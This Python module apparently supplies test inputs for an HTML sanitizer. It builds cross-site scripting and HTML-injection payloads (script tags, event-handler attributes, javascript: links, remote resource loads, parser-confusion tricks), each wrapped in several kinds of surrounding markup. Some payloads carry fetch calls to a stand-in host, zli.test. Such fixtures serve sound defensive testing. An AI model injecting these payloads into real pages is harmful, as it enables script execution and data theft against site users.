# ruff: noqa: E501  (HTML as it is sent)
"""HTML that would run, load or send something where a page let it: each piece in several wrappings."""

from __future__ import annotations

from importlib import import_module
from importlib.util import find_spec

HOSTILE = (
    "<script>{x}</script>", "<img src=x onerror={x}>", "<svg onload={x}>", "<body onload={x}>", "<iframe src={u}>",
    "<a href='javascript:{x}'>a</a>", "<a href='data:text/html,{x}'>a</a>", "<a href='JaVa&#x0A;script:{x}'>a</a>",
    "<form action={u}><input name=a><button>a</button></form>", "<meta http-equiv=refresh content='0;url={u}'>",
    "<link rel=stylesheet href={u}>", "<style>@import '{u}'; body {{ background: url({u}) }}</style>",
    "<div style='background:url({u})'>a</div>", "<table background={u}><td>a</td></table>", "<object data={u}>",
    "<embed src={u}>", "<video src={u} onerror={x}>", "<audio src={u}>", "<base href={u}>", "<math href='{u}'>",
    "<img src='{u}'>", "<img srcset='{u} 1x'>", "<input type=image src={u}>", "<picture><source srcset={u}></picture>",
    "<details open ontoggle={x}>", "<svg><script>{x}</script></svg>", "<noscript><p title='</noscript><img src={u}>'>",
    "<template><img src={u}></template>", "<img src='cid:{u}'>", "<img src='cid:x\" onerror={x}'>", "<bgsound src={u}>",
    "<textarea><img src={u}></textarea>", "<!--><img src={u}>-->", "<![CDATA[<img src={u}>]]>", "<xmp><img src={u}></xmp>",
)  # fmt: skip
WRAPS = ("{p}", "<div>{p}</div>", "<table><tr><td>{p}", "<p>{p}<p>", "<b><i>{p}</b></i>", "<!-- {p} -->", "</p>{p}<br>",
         "<ul><li>{p}", "&lt;{p}&gt;", "<font color=red>{p}</font>")  # fmt: skip


def payloads(wraps: int = len(WRAPS)) -> list[str]:
    """Return each hostile piece in so many wrappings."""
    pieces = [piece.format(x="fetch('//zli.test/x')", u="//zli.test/u") for piece in HOSTILE]
    pieces += [piece.format(x="alert`1`", u="http://zli.test/h") for piece in HOSTILE]
    return [wrap.replace("{p}", piece) for piece in pieces for wrap in WRAPS[:wraps]]


def public_payloads() -> list[str]:
    """Return the HTML of a public list of payloads, where the package ``brs-kb`` is installed; the lock has it not."""
    if find_spec("brs_kb") is None:
        return []
    listed = import_module("brs_kb.payloads").get_all_payloads().values()
    return [str(one.payload) for one in listed if "<" in one.payload and len(one.payload) < 2_000]
